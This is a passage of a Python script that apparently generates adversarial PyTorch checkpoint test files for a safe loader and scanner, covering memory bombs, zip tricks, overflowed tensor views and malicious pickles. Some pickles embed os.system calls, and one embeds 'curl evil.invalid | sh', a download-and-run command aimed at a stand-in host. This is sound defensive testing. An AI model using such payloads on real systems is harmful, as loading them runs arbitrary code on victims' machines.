    scan=0, comment="DUP and LIST are data-only and share references (10^10 leaves in a tiny DAG); the canonical dump is bounded. adversarial.md: UnsupportedOpcode")
add("C08b_global_laughs_ordereddict.pt",
    ckpt(b"ccollections\nOrderedDict\n((U\x03lol" + b"(" * 9 + b"U\x03lol" + (b"2" * 9 + b"l") * 9 + b"dtR."),
    "C", "loads", checks="type:<root>=collections.OrderedDict;len:lol=10;dump=refused", scan=0,
    comment="the same inside the allowed OrderedDict")
memo_laughs = b"U\x03lolq\x000" + b"0".join(b"(" + (b"h" + bytes([i])) * 10 + b"lq" + bytes([i + 1]) for i in range(10))
add("C08c_memo_laughs_ordereddict.pt", ckpt(pkl(empty_od() + b"(" + s("lol") + memo_laughs + b"u")), "C", "loads",
    checks="type:<root>=collections.OrderedDict;len:lol=10;dump=refused", scan=0,
    comment="billion laughs through BINGET/BINPUT: a DAG the loader shares and the dump refuses to expand")
add("C08d_dup_into_one_list.pt", ckpt(pkl(b"](" + s("x") + b"2" * 1001 + b"e")), "C", LIM,
    "a container of more than 1000 items", limits="maxContainerLength=1000", scan=0)
add("C09a_nested_lists.pt", ckpt(pkl(b"]" * 100000 + b"a" * 99999)), "C", "loads",
    checks="type:<root>=list;len:<root>=1;dump=refused", scan=0,
    comment="lists nested 100,000 deep load (the stack is explicit); every walk the library makes is bounded by maxNestingDepth. adversarial.md: LimitExceeded")
add("C09b_million_marks.pt", ckpt(pkl(b"(" * 1000000 + b"N")), "C", LIM, "more than 10000 open MARKs", scan=3,
    comment="the scanner's MARK stack is bounded the same way")
add("C09c_nested_tuples_marks.pt", ckpt(pkl(b"(" * 50000 + b"t" * 50000)), "C", LIM, "more than 10000 open MARKs",
    scan=3)
add("C09d_nested_tuple1.pt", ckpt(pkl(b"N" + b"\x85" * 2000)), "C", LIM, "tuples nested 1001 deep", scan=0)
add("C11c_object_flood.pt", ckpt(pkl(b"]" + b"\x8fa" * 100001)), "C", LIM, "more than 100000 values created",
    limits="maxObjects=100000", scan=0,
    comment="+ empty sets appended to a list: about 120 bytes of heap per 2 bytes of pickle, bounded by maxObjects")
# Amplification through calls: a few bytes pass one large value to a call again and again.
AMP = ("+ each call reads or copies its large argument again: what calls read counts against maxObjects (here 200,000,"
       " so that a 64 MiB heap holds what the limit allows; without the count no limit stopped these)")
big_tuple = b"(" + b"K\x01" + b"2" * 99999 + b"tq\x00" + b"0"
rebuild = (g("torch._utils", "_rebuild_tensor_v2") + b"q\x01" + b"0" + pid(numel=1) + b"q\x02" + b"0"
           + empty_od() + b"q\x03" + b"0")
call_once = b"h\x01(h\x02" + n(0) + b"h\x00h\x00\x89h\x03tRa"
add("C19a_rank_reused_by_many_rebuilds.pt", ckpt(pkl(big_tuple + rebuild + b"]" + call_once * 2000), {"0": b"\0" * 4}),
    "C", LIM, "read and copied by calls", scan=3, limits="maxObjects=200000",
    comment=AMP + ": a 100,000-element shape given to 2,000 rebuilds (3.2 GB of shape arrays; an OutOfMemoryError before)")
big_list = b"](" + b"K\x01" + b"2" * 99999 + b"eq\x00" + b"0" + g("builtins", "set") + b"q\x01" + b"0"
add("C19b_set_of_big_list_repeated.pt", ckpt(pkl(big_list + b"]" + b"h\x01h\x00\x85Ra" * 2000)), "C", LIM,
    "read and copied by calls", scan=3, limits="maxObjects=200000", comment=AMP + ": set() of a 100,000-item list, 2,000 times")
big_dict = b"}(" + b"".join(b"M" + struct.pack("<H", i) + b"N" for i in range(20000)) + b"uq\x00" + b"0" + OD + b"q\x01" + b"0"
add("C19c_ordereddict_of_big_dict_repeated.pt", ckpt(pkl(big_dict + b"]" + b"h\x01h\x00\x85Ra" * 1000)), "C", LIM,
    "read and copied by calls", scan=3, limits="maxObjects=200000", comment=AMP + ": OrderedDict() copying a 20,000-entry dict, 1,000 times")
attrs = b"}(" + b"".join(short_uni("k%d" % i) + b"N" for i in range(10000)) + b"uq\x00" + b"0" + OD + b"q\x01" + b"0"
add("C19d_build_with_big_state_repeated.pt", ckpt(pkl(attrs + b"]" + (b"h\x01)Rh\x00ba") * 1100)), "C", LIM,
    "read and copied by calls", scan=3, limits="maxObjects=200000", comment=AMP + ": BUILD of 1,100 OrderedDicts with one 10,000-attribute state")
idx = struct.pack("<20000q", *([0] * 20000))
sparse_defs = (tensor(pid("LongStorage", "0", 20000), size=(1, 20000), stride=(20000, 1)) + b"q\x00" + b"0"
               + tensor(pid("FloatStorage", "1", 1), size=(20000,), stride=(0,)) + b"q\x01" + b"0"
               + g("torch._utils", "_rebuild_sparse_tensor") + b"q\x02" + b"0"
               + call(g("torch.serialization", "_get_layout"), s("torch.sparse_coo")) + b"q\x03" + b"0")
sparse_once = b"h\x02(h\x03(h\x00h\x01(" + n(3) + b"tttRa"   # _rebuild_sparse_tensor(layout, (idx, val, (3,)))
add("C19e_sparse_indices_checked_repeatedly.pt",
    ckpt(pkl(sparse_defs + b"]" + sparse_once * 600), {"0": idx, "1": struct.pack("<f", 1.0)}), "C", LIM,
    "indices to check in all", scan=3, limits="maxObjects=200000", comment=AMP + ": one stored 20,000-index tensor checked by 600 sparse rebuilds")
add("C11a_stack_flood.pt", ckpt(pkl(b"N" * 1000001)), "C", LIM, "more than 1000000 values on the unpickler stack",
    scan=3, comment="the scanner's shadow stack is bounded the same way")
add("C11b_many_gets.pt", ckpt(pkl(b"]" + s("x") + b"q\x00a" + b"h\x00a" * 59)), "C", "loads",
    checks="type:<root>=list;len:<root>=60", scan=0, comment="a high GET/PUT ratio on harmless data is fine")
bomb_size = 64 << 20
bomb = deflate(b"\0" * bomb_size)
es = std_entries(pkl(odict(("w", tensor(pid(numel=bomb_size // 4), size=(bomb_size // 4,))))), {"0": b""})
es[2].update(method=8, raw=bomb, usize=bomb_size, crc=zlib.crc32(b"\0" * bomb_size) & 0xFFFFFFFF)
add("C12a_deflate_bomb.pt", rawzip(es), "C", LIM, "maxInflationRatio", scan=0,
    comment="64 MiB from %d bytes: refused from the declared size, before anything is inflated" % len(bomb))
es2 = [dict(e) for e in es]
es2[2]["usize"] = 16
add("C12b_deflate_lying_size.pt", rawzip(es2), "C", MAL, "inflates to more than the 16 bytes", scan=0,
    comment="the inflater stops one byte past the declared size")
es3 = std_entries()
es3[2]["cd_usize"] = 0xFFFFFFFF
add("C12c_stored_usize_4g.pt", rawzip(es3), "C", MAL, "ZIP64 extra field", scan=3)
es4 = std_entries()
es4[2].update(method=8, raw=deflate(F4))
add("C12d_deflate_small_ok.pt", rawzip(es4), "C", "loads", checks=W4, scan=0,
    comment="a DEFLATED storage record within every limit loads")
es = std_entries(records={str(k): b"\0" * 16 for k in range(200)})
first_record = sum(30 + len(e["name"]) + len(e["data"]) for e in es[:2])
for e in es[3:-1]:
    e["lfh_offset"] = first_record
add("C13_overlapping_entries.pt", rawzip(es), "C", MAL, "overlaps", scan=3,
    comment="200 directory entries sharing one payload (Fifield's overlap)")
inner_name = b"archive/data/1"
inner_lfh = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, zlib.crc32(F4), 16, 16, len(inner_name), 0) \
    + inner_name + F4
outer = inner_lfh + b"\0" * (-len(inner_lfh) % 4)
es = std_entries(pkl(odict(("a", tensor(pid(key="0", numel=len(outer) // 4), size=(1,))), ("b", tensor(pid(key="1"))))),
                 {"0": outer})
outer_data = sum(30 + len(e["name"]) + len(e["data"]) for e in es[:2]) + 30 + len("archive/data/0")
es.insert(3, dict(name="archive/data/1", data=F4, cd_only=True, lfh_offset=outer_data))
add("C13b_entry_inside_another.pt", rawzip(es), "C", MAL, "overlaps", scan=3,
    comment="+ a complete entry hidden inside another's data: names and sizes agree, only the overlap check sees it")
many = std_entries() + [dict(name="archive/junk/%d" % i, data=b"") for i in range(1001)]
add("C14a_entry_flood.pt", rawzip(many), "C", LIM, "records in the archive", limits="maxArchiveEntries=1000",
    scan=0, comment="counted from the end record before any entry is read")
add("C14b_long_name.pt", rawzip(std_entries() + [dict(name="archive/" + "x" * 65000, data=b"")]), "C", LIM,
    "maxNameBytes", scan=3)
add("C14c_entry_count_lie.pt", rawzip(std_entries(), eocd_count=0xFFFF), "C", MAL, "cannot hold 65535 entries",
    scan=3)
add("C15_legacy_numel_2e40.pt",
    legacy(odict(("w", tensor(lpid(numel=2 ** 40), size=(2 ** 40,)))), {"0": (2 ** 40, b"")}), "C", MAL,
    "needs 4398046511104 bytes", scan=0, comment="the declared size is compared with what the file holds; nothing allocated")
add("C16_tar_count_flood.pt",
    tar([("sys_info", pkl(b"N")), ("pickle", pkl(s("x"))), ("tensors", pkl(n(2 ** 30))),
         ("storages", pkl(n(0)) + pkl(b"]"))]),
    "C", LIM, "1073741824 tensors", scan=0, comment="+ a tar count claim is checked before any loop")
add("C17_global_name_flood.pt", ckpt(pkl(g("m" * 5000, "x"))), "C", LIM, "maxNameBytes", scan=1,
    comment="+ a GLOBAL module name longer than maxNameBytes")

# D: integer overflow and out-of-bounds views -----------------------------------------------------------------------


def sd(t, records=None):
    return ckpt(pkl(odict(("w", t))), records)


add("D01_offset_past_end.pt", sd(tensor(pid(numel=4), offset=1)), "D", MAL,
    "needs 4 elements of float32 (16 bytes) from offset 1, 20 bytes in all, but storage '0' holds 16 bytes", scan=0)
add("D02_size_past_end.pt", sd(tensor(pid(numel=4), size=(5,))), "D", MAL, "20 bytes in all, but storage '0' holds 16",
    scan=0)
add("D04a_negative_stride_inside.pt", sd(tensor(pid(numel=4), offset=3, stride=(-1,))), "D", MAL,
    "is negative; torch has no negative strides", scan=0)
add("D04b_negative_stride_before.pt", sd(tensor(pid(numel=4), stride=(-1,))), "D", MAL,
    "is negative; torch has no negative strides", scan=0)
add("D05a_negative_size.pt", sd(tensor(pid(numel=4), size=(-1,))), "D", MAL, "size -1 of dimension 0", scan=0)
add("D05b_two_negative_sizes.pt", sd(tensor(pid(numel=4), size=(-2, -3), stride=(1, 1))), "D", MAL,
    "size -2 of dimension 0", scan=0, comment="two negative sizes make a positive numel: each size is checked")
add("D06a_negative_offset.pt", sd(tensor(pid(numel=4), offset=-1)), "D", MAL,
    "storage_offset must be a non-negative int, got -1", scan=0)
add("D06b_offset_min_long.pt", sd(tensor(pid(numel=4), offset=-2 ** 63)), "D", MAL,
    "storage_offset must be a non-negative int, got -9223372036854775808", scan=0)
add("D08a_numel_wraps_to_zero.pt", sd(tensor(pid(numel=1), size=(2 ** 32, 2 ** 32), stride=(0, 0)), {"0": b"\0" * 4}),
    "D", MAL, "has more than 9223372036854775807 bytes of elements", scan=0)
add("D08b_numel_2e63.pt", sd(tensor(pid(numel=1), size=(2 ** 31, 2 ** 32), stride=(0, 0)), {"0": b"\0" * 4}),
    "D", MAL, "has more than 9223372036854775807 bytes of elements", scan=0)
add("D08c_expanded_1e12.pt", sd(tensor(pid(numel=1), size=(10 ** 6, 10 ** 6), stride=(0, 0)), {"0": b"\0" * 4}),
    "D", "loads", checks="tensors=1;shape:w=1000000,1000000;dump=refused", scan=0,
    comment="a legal stride-0 view of 10^12 elements over 4 bytes: kept a view; the dump refuses to hash terabytes")
add("D08d_expanded_2e31.pt", sd(tensor(pid(numel=1), size=(2 ** 31,), stride=(0,)), {"0": b"\0" * 4}), "D", "loads",
    checks="tensors=1;shape:w=2147483648;dump=refused", scan=0, comment="never an array of (int) numel")
add("D08e_expanded_over_limit.pt", sd(tensor(pid(numel=1), size=(2 ** 21, 2 ** 20), stride=(0, 0)), {"0": b"\0" * 4}),
    "D", LIM, "a view of 2199023255552 elements", scan=0, comment="+ past maxTensorElements (2^40)")
add("D09a_double_numel_wraps.pt", sd(tensor(pid("DoubleStorage", numel=2 ** 61), size=(1024,)), {"0": b""}), "D",
    MAL, "declares 2305843009213693952 elements of float64, more bytes than a file can hold", scan=0)
add("D09b_float_numel_wraps.pt", sd(tensor(pid("FloatStorage", numel=2 ** 62), size=(1024,)), {"0": b""}), "D",
    MAL, "more bytes than a file can hold", scan=0)
P4 = pid(numel=4)


def rebuild(size_bytes, stride_bytes):
    return call(g("torch._utils", "_rebuild_tensor_v2"), P4, n(0), size_bytes, stride_bytes, b"\x89", empty_od())


for k, (sz, st, outcome, detail, checks) in {
        "len": (tup(n(4)), tup(n(1), n(1)), MAL, "has 1 dimensions but strides [1, 1] has 2", ""),
        "float": (tup(b"G" + struct.pack(">d", 4.0)), tup(n(1)), MAL, "size must hold ints, got 4.0 at index 0", ""),
        "bool": (tup(b"\x88"), tup(n(1)), MAL, "size must hold ints, got True at index 0", ""),
        "none": (tup(b"N"), tup(n(1)), MAL, "size must hold ints, got None at index 0", ""),
        "str": (tup(s("4")), tup(n(1)), MAL, "size must hold ints, got '4' at index 0", ""),
        "list": (b"](" + n(4) + b"e", tup(n(1)), "loads", "", W4),
        "big": (tup(n(2 ** 70)), tup(n(1)), MAL, "size must hold ints, got 1180591620717411303424", ""),
        "rank": (tup(*[n(1)] * 10000), tup(*[n(1)] * 10000), "loads", "", "tensors=1;T:w=1"),
        "dict": (b"}", tup(n(1)), MAL, "size must be a tuple of ints, got dict", "")}.items():
    add("D10_%s.pt" % k, sd(rebuild(sz, st)), "D", outcome, detail, checks=checks, scan=0,
        comment={"list": "torch's set_ takes a list too", "rank": "10,000 dimensions of size 1: a valid view, no allocation by rank. adversarial.md: LimitExceeded"}.get(k, ""))
add("D12a_record_shorter.pt", sd(tensor(pid(numel=32), size=(32,))), "D", MAL,
    "record size (16 bytes) does not match expected size (128 bytes = 32 elements * 4 bytes/element)", scan=0,
    comment="CVE-2026-24747 part 2")
add("D12b_record_longer.pt", sd(tensor(pid(numel=2), size=(2,))), "D", MAL,
    "record size (16 bytes) does not match expected size (8 bytes", scan=0)
add("D12c_record_not_multiple.pt", sd(tensor(pid(numel=2), size=(2,)), {"0": b"\0" * 10}), "D", MAL,
    "record size (10 bytes) does not match expected size (8 bytes", scan=0)
add("D12d_record_nonempty_numel_zero.pt", sd(tensor(pid(numel=0), size=(0,))), "D", MAL,
    "record size (16 bytes) does not match expected size (0 bytes", scan=0)
add("D12e_legacy_block_lies.pt", legacy(BASE_LEGACY_MAIN, {"0": (4, F4[:12])}), "D", MAL,
    "needs 16 bytes at offset", scan=0, comment="+ the legacy form of the same lie: the raw block is shorter")
for key, detail in [("7", "names record 'archive/data/7', which the archive does not have"),
                    ("../data.pkl", "names record 'archive/data/../data.pkl'"),
                    ("../version", "names record 'archive/data/../version'"),
                    ("0/../0", "names record 'archive/data/0/../0'"),
                    ("/etc/passwd", "names record 'archive/data//etc/passwd'"),
                    ("", "names record 'archive/data/'"),
                    ("00", "names record 'archive/data/00'"),
                    ("0\x00", "which the archive does not have")]:
    add("D13_%s.pt" % (key.encode().hex() or "empty"), sd(tensor(pid(key=key))), "D", MAL, detail, scan=0,
        comment="records are found by exact name; nothing is normalised or resolved as a path")
v3 = lambda p, sz, dt: tensor(p, size=sz, fn="_rebuild_tensor_v3", extra=dt)  # noqa: E731
add("D14a_v3_dtype_wider_than_storage.pt", sd(v3(pid("ByteStorage", numel=4), (1,), g("torch", "float64")),
                                                {"0": b"\0" * 4}), "D", MAL, "but storage '0' holds 4 bytes", scan=0)
add("D14b_v3_dtype_not_dtype.pt", sd(v3(pid(numel=4), (4,), s("float64"))), "D", MAL,
    "_rebuild_tensor_v3 expects a dtype, got str", scan=0)
add("D14c_v3_reinterpret.pt", sd(v3(pid(numel=4), (8,), g("torch", "float16"))), "D", "loads",
    checks="tensors=1;T:w=0,1.875,0,2,0,2.125,0,2.25", scan=0,
    comment="a legal reinterpretation: offsets and sizes in the v3 dtype, bounds in bytes")
add("D15_key_two_dtypes.pt", ckpt(pkl(odict(("a", tensor(pid("FloatStorage", "0", 4))),
                                            ("b", tensor(pid("DoubleStorage", "0", 2), size=(2,)))))), "D", "loads",
    checks="tensors=2;T:a=1,2,3,4;T:b=1,2", scan=0,
    comment="as torch's _load: a key loaded before is that storage, and the later declaration (float64) is ignored")
for mod, cls, outcome, detail, scan in [
        ("torch", "FooStorage", UG, "GLOBAL torch.FooStorage was not an allowed global", 1),
        ("torch.cuda", "FloatStorage", "loads", "", 0),
        ("torch", "QInt8Storage", MAL, "_rebuild_tensor_v2 of a quantized storage (qint8)", 0),
        ("torch.storage", "UntypedStorage", MAL, "record size (16 bytes) does not match expected size (4 bytes", 0),
        ("torch", "float32", MAL, "storage type must be a torch storage class", 0),
        ("torch.storage", "TypedStorage", MAL, "storage type must be a torch storage class", 0)]:
    p = tup(s("storage"), g(mod, cls), s("0"), s("cpu"), n(4)) + b"Q"
    add("D17_%s.%s.pt" % (mod, cls), sd(tensor(p), {"0": b"\0" * 4} if cls == "QInt8Storage" else None), "D", outcome, detail, checks=W4 if outcome == "loads" else "",
        scan=scan, comment="storage classes map through a fixed table; the CUDA class of old files is a float32 storage"
        if cls == "FloatStorage" else "")
for v, outcome, detail, checks in [(b"big", "loads", "", "tensors=1;shape:w=4"),
                                   (b"BIG", MAL, "Unknown endianness type: BIG", ""),
                                   (b"little\n", MAL, "Unknown endianness type", ""),
                                   (b"", MAL, "Unknown endianness type", ""),
                                   (b"middle", MAL, "Unknown endianness type: middle", "")]:
    es = std_entries()
    es[1]["data"] = v
    add("D18_%s.pt" % (v.hex() or "empty"), rawzip(es), "D", outcome, detail, checks=checks, scan=0,
        comment="big: every element byte-swapped, as torch does" if v == b"big" else "")
for k, loc, outcome, detail in [("cuda0", s("cuda:0"), "loads", ""), ("cudaneg", s("cuda:-1"), "loads", ""),
                                ("meta", s("meta"), "loads", ""), ("empty", s(""), "loads", ""),
                                ("int", n(0), MAL, "storage location must be str, got int"),
                                ("huge", s("x" * 100000), "loads", "")]:
    add("D19_%s.pt" % k, sd(tensor(tup(s("storage"), g("torch", "FloatStorage"), s("0"), loc, n(4)) + b"Q")), "D",
        outcome, detail, checks=W4 if outcome == "loads" else "", scan=0,
        comment="a location is metadata only (Storage.location()); everything loads to the host" if outcome == "loads" else "")
RAW = (4, F4)
add("D21a_legacy_view_beyond_root.pt", legacy(odict(("w", tensor(lpid(view=("v", 3, 4))))), {"0": RAW}), "D", MAL,
    "but storage 'v' holds 4 bytes", scan=0,
    comment="torch slices the root as Python does (clamped to 1 element), then the 4-element view does not fit")
add("D21b_legacy_key_twice.pt", legacy(BASE_LEGACY_MAIN, {"0": RAW}, keys=["0", "0"]), "D", "loads", checks=W4,
    scan=0, comment="torch reads both blocks into the storage, the second overwriting the first")
add("D21c_legacy_key_missing.pt", legacy(BASE_LEGACY_MAIN, {"0": RAW}, keys=[]), "D", MAL,
    "storage '0' is used by the object pickle but has no data", scan=0)
add("D21d_legacy_header_lies.pt", legacy(BASE_LEGACY_MAIN, {"0": (8, F4)}), "D", MAL,
    "holds 16 bytes (4 bytes/element) but its data block at offset", scan=0)
add("D21e_legacy_header_negative.pt", legacy(BASE_LEGACY_MAIN, {"0": (-1, F4)}), "D", MAL, "holds -1", scan=0)
add("D22a_tied_views.pt", ckpt(pkl(odict(("a", tensor(pid())), ("b", tensor(pid(), offset=2, size=(2,)))))), "D",
    "loads", checks="tensors=2;T:a=1,2,3,4;T:b=3,4", scan=0, comment="positive control: views share one storage")
add("D22b_expand_stride0.pt", sd(tensor(pid(numel=1), size=(1000,), stride=(0,)), {"0": struct.pack("<f", 7)}), "D",
    "loads", checks="tensors=1;shape:w=1000;dump=ok", scan=0)
add("D22c_transposed.pt", sd(tensor(pid(), size=(2, 2), stride=(1, 2))), "D", "loads",
    checks="tensors=1;T:w=1,3,2,4;shape:w=2,2", scan=0)
add("D22d_scalar.pt", sd(tensor(pid(numel=1), size=(), stride=()), {"0": struct.pack("<f", 3)}), "D", "loads",
    checks="tensors=1;T:w=3;shape:w=", scan=0)
add("D22e_empty.pt", sd(tensor(pid(numel=0), size=(0,)), {"0": b""}), "D", "loads", checks="tensors=1;T:w=;shape:w=0",
    scan=0)
for k, d in [("int", n(5)), ("str", s("x")), ("dict", empty_od())]:
    add("D23_%s.pt" % k, ckpt(pkl(odict(("p", call(g("torch._utils", "_rebuild_parameter"), d, b"\x88", empty_od()))))),
        "D", MAL, "_rebuild_parameter expects a tensor, got", scan=0)
add("D24_tar_negative_stride.pt", tar_ckpt(pkl(b"P1\n"), tensors=[(1, 1000, 1, (4,), (-1,), 3)]), "D", MAL,
    "torch has no negative strides", scan=0, comment="+ the tar tensors member's geometry is checked like any other view")
add("D24b_tar_view_past_end.pt", tar_ckpt(pkl(b"P1\n"), tensors=[(1, 1000, 2, (2, 3), (3, 1), 0)]), "D", MAL,
    "holds 16 bytes", scan=0)
add("D24c_tar_ndim_huge.pt", tar_ckpt(pkl(b"P1\n"), tensors=[(1, 1000, 0x7FFFFFFF, (), (), 0)]), "D", MAL,
    "claims 2147483647 dimensions", scan=0)
add("D24d_tar_storage_claims_more.pt", tar_ckpt(pkl(b"P1\n"), storages=[(1000, "cpu", "FloatStorage", 2 ** 40, F4)]),
    "D", MAL, "claims 1099511627776 elements", scan=0)

# E: structural and format confusion ----------------------------------------------------------------------------

broken = pkl(call(g("posix", "system"), s("curl evil.invalid | sh")))[:-1] + b"\xff\xfe garbage, no STOP"
add("E01_nullifai_7z.pt", seven_zip("pytorch_model.bin", ckpt(broken, root="ballr7")), "E", MAL, "this is a 7z archive",
    scan=3, comment="nullifAI: a (real) 7z archive around a torch zip whose broken pickle starts with its payload")
add("E01b_nullifai_broken_pickle.pt", ckpt(broken), "E", UG, "whose module posix is blocked", scan=3,
    comment="nullifAI: the payload comes before the break; the GLOBAL is refused before the garbage is reached")
add("E01c_broken_bare_pickle.pt", broken, "E", UG, "a bare pickle, not a torch.save checkpoint", scan=3,
    comment="a bare pickle is not a checkpoint, and this one names a blocked global: unsafe, as torch says")
add("E02_gz.pt", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + deflate(ckpt()) + struct.pack("<II", 0, 0), "E", MAL,
    "gzip-compressed", scan=3)
add("E02_npy.pt", b"\x93NUMPY\x01\x00" + struct.pack("<H", 118)
    + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n" + pkl(call(g("os", "system"), s("id"))),
    "E", MAL, "Invalid magic number", scan=3, comment="a NumPy object array is never handed to the pickle machine")
for k, b in {"png": b"\x89PNG\r\n\x1a\n" + b"\0" * 16, "html": b"<!DOCTYPE html><html>404</html>", "empty": b"",
             "stop": b"."}.items():
    add("E03_%s.pt" % k, b, "E", MAL, {"png": "starts with 89 50 4e 47", "html": "starts with 3c 21 44 4f",
                                       "empty": "the file has 0 bytes", "stop": "the file has 1 bytes"}[k],
        scan=0 if k == "stop" else 3, comment="a lone STOP names no global: the scanner has nothing to report" if k == "stop" else "")
add("E03_preview.pt", b"PYTORCH1" + b"\0" * 64, "E", UNSUP, "preview release", scan=3)
add("E04a_bare_pickle_bin.pt", pkl(call(g("os", "system"), s("id"))), "E", UG, "whose module os is blocked", scan=3,
    comment="CVE-2025-10155: decided from the bytes, never from the name; a bare pickle naming os.system is unsafe")
add("E04b_pickle_named_txt.pt", rawzip([dict(name="archive/data.txt", data=pkl(call(g("os", "system"), s("id")))),
                                       dict(name="archive/version", data=b"3\n")]), "E", MAL,
    "the archive has no archive/data.pkl record", scan=3,
    comment="CVE-2025-1889: only <root>/data.pkl is ever unpickled; the scanner reads every .pkl and reports the missing data.pkl")
add("E04c_decoy_pkl.pt", ckpt(BASE_PKL, extra={"archive/aaa.pkl": pkl(call(g("os", "system"), s("id")))}), "E",
    "loads", checks=W4, scan=3, comment="the load never parses aaa.pkl; the scanner reads every .pkl and flags it")
add("E06a_second_pickle.pt", ckpt(BASE_PKL + pkl(call(g("os", "system"), s("id")))), "E", MAL,
    "bytes follow the pickle's STOP", scan=3,
    comment="nothing after STOP is read as data; the scanner reads on and reports os.system")
add("E06b_trailing_whitespace.pt", ckpt(BASE_PKL + b"\n\n\t\t"), "E", MAL, "4 bytes follow the pickle's STOP", scan=3)
for k, b, detail in [("empty", b"", "it ended before STOP"), ("nostop", BASE_PKL[:-1], "it ended before STOP"),
                     ("emptystack", b"\x80\x02.", "unpickling stack underflow"),
                     ("extra", b"\x80\x02NN.", "STOP leaves 2 values on the stack"),
                     ("openmark", b"\x80\x02(N.", "STOP inside 1 open MARK")]:
    add("E07_%s.pt" % k, ckpt(b), "E", MAL, detail, scan=3 if k in ("empty", "nostop") else 0,
        comment="exactly one value and no open MARK at STOP, decided once for every reader" if k in ("extra", "openmark") else "")
for k, b, detail in [("tuple", b"\x80\x04t.", "could not find MARK"), ("append", b"\x80\x02a.", "unpickling stack underflow"),
                     ("reduce", b"\x80\x02N\x85R.", "unpickling stack underflow"),
                     ("get", b"\x80\x02h\x05.", "memo slot 5 was read before it was written"),
                     ("put", b"\x80\x02q\x00.", "unpickling stack underflow"),
                     ("appends", b"\x80\x02(e.", "unpickling stack underflow")]:
    add("E08_%s.pt" % k, ckpt(b), "E", MAL, detail, scan=0)
add("E09a_proto_255.pt", ckpt(b"\x80\xff" + BASE_PKL[2:]), "E", MAL, "unsupported pickle protocol: 255", scan=0)
add("E09b_proto_after_pop.pt", ckpt(b"N0" + BASE_PKL), "E", "loads", checks=W4, scan=0,
    comment="PROTO only states a version; where it stands changes nothing (CPython agrees). adversarial.md: MalformedPickle")
add("E09c_second_proto.pt", ckpt(BASE_PKL[:30] + b"\x80\x02" + BASE_PKL[30:]), "E", "loads", checks=W4, scan=0,
    comment="the same; an injected payload after it would be refused by its GLOBAL (A17)")
add("E09d_no_proto.pt", ckpt(BASE_PKL[2:]), "E", "loads", checks=W4, scan=0,
    comment="protocols 0 and 1 have no PROTO and are read")
T = tensor(pid())
for k, body, outcome, detail, checks in [
        ("DUP", T + b"2" + b"\x86", "loads", "", "tensors=2;T:0=1,2,3,4;T:1=1,2,3,4;type:<root>=tuple;len:<root>=2"),
        ("POP", T + b"N0", "loads", "", W4.replace("w", "<root>")),
        ("POP_MARK", T + b"(NN1", "loads", "", W4.replace("w", "<root>")),
        ("LIST", b"(" + T + b"l", "loads", "", "type:<root>=list;len:<root>=1"),
        ("DICT", b"(" + s("w") + T + b"d", "loads", "", W4),
        ("INT", b"(" + T + b"I1\nl", "loads", "", "len:<root>=2"),
        ("LONG", b"(" + T + b"L1L\nl", "loads", "", "len:<root>=2"),
        ("FLOAT", b"(" + T + b"F1.0\nl", "loads", "", "len:<root>=2"),
        ("STRING", b"(" + T + b"S'a'\nl", "loads", "", "len:<root>=2"),
        ("UNICODE", b"(" + T + b"Va\nl", "loads", "", "len:<root>=2"),
        ("PUT_GET", T + b"p0\n0g0\n", "loads", "", W4.replace("w", "<root>")),
        ("PERSID", b"P0\n", MAL, "", ""),
        ("EXT1", T + b"\x82\x01", UNSAFE, "EXT1 names a global through copyreg's extension registry", ""),
        ("EXT2", T + b"\x83\x01\x00", UNSAFE, "EXT2 names a global", ""),
        ("EXT4", T + b"\x84\x01\x00\x00\x00", UNSAFE, "EXT4 names a global", ""),
        ("BINBYTES", b"(" + T + b"B\x01\x00\x00\x00xl", "loads", "", "len:<root>=2"),
        ("SHORT_BINBYTES", b"(" + T + b"C\x00l", "loads", "", "len:<root>=2"),
        ("BYTEARRAY8", b"(" + T + b"\x96" + struct.pack("<Q", 1) + b"xl", "loads", "", "len:<root>=2"),
        ("NEXT_BUFFER", T + b"\x97", UNSUP, "NEXT_BUFFER refers to an out-of-band buffer", ""),
        ("READONLY_BUFFER", T + b"\x98", MAL, "READONLY_BUFFER on Tensor", ""),
        ("SHORT_BINUNICODE", b"(" + T + b"\x8c\x00l", "loads", "", "len:<root>=2"),
        ("MEMOIZE", T + b"\x94", "loads", "", W4.replace("w", "<root>")),
        ("FRAME", b"\x95" + struct.pack("<Q", 1) + T, "loads", "", W4.replace("w", "<root>")),
        ("ADDITEMS", b"\x8f(" + n(1) + n(2) + b"\x90", "loads", "", "type:<root>=set;len:<root>=2"),
        ("FROZENSET", b"(" + n(1) + b"\x91", "loads", "", "type:<root>=frozenset;len:<root>=1"),
        ("NUL", T + b"\x00", MAL, "Unsupported operand 0 (0x0): not a pickle opcode", ""),
        ("FF", T + b"\xff", MAL, "Unsupported operand 255 (0xff): not a pickle opcode", "")]:
    if k == "PERSID":
        detail = "persistent id"
    add("E10_%s.pt" % k, ckpt(pkl(body)), "E", outcome, detail, checks=checks,
        scan=3 if k in ("EXT1", "EXT2", "EXT4", "NUL", "FF") else 0,
        comment="every data-only opcode of protocols 0-5 is read (torch reads 34); this one is refused for what it does"
        if outcome != "loads" else "every data-only opcode of protocols 0-5 is read; adversarial.md: UnsupportedOpcode")
raw_utf8 = lambda b: b"X" + struct.pack("<I", len(b)) + b  # noqa: E731
for k, b, outcome, detail, checks in [("bad", b"\xff", MAL, "invalid UTF-8 in a string", ""),
                                      ("overlong", b"\xc0\xaf", MAL, "invalid UTF-8 in a string", ""),
                                      ("surrogate", b"\xed\xa0\x80", "loads", "", "tensors=1")]:
    add("E12_%s.pt" % k, ckpt(pkl(empty_od() + b"(" + raw_utf8(b) + T + b"u")), "E", outcome, detail, checks=checks,
        scan=0, comment="surrogates pass, as torch decodes with surrogatepass" if outcome == "loads" else "")
add("E12_dup_key.pt", ckpt(pkl(empty_od() + b"(" + s("w") + T + s("w") + n(0) + b"u")), "E", "loads",
    checks="tensors=0;type:w=int", scan=0, comment="Python semantics: the last value of a repeated key wins, as in torch. adversarial.md: IllegalOperation")
add("E12_mixed_key.pt", ckpt(pkl(empty_od() + b"(" + s("w") + T + b"U\x01w" + n(0) + b"u")), "E", "loads",
    checks="tensors=0;type:w=int", scan=0, comment="a Python 2 str key decodes to str, as torch's encoding does: one key")
for bit in (0x1, 0x20, 0x40):
    es = std_entries()
    es[0]["flag"] = bit
    add("E14_flag_0x%x.pt" % bit, rawzip(es), "E", UNSUP, "encrypted" if bit == 1 else "general-purpose flag 0x%x" % bit,
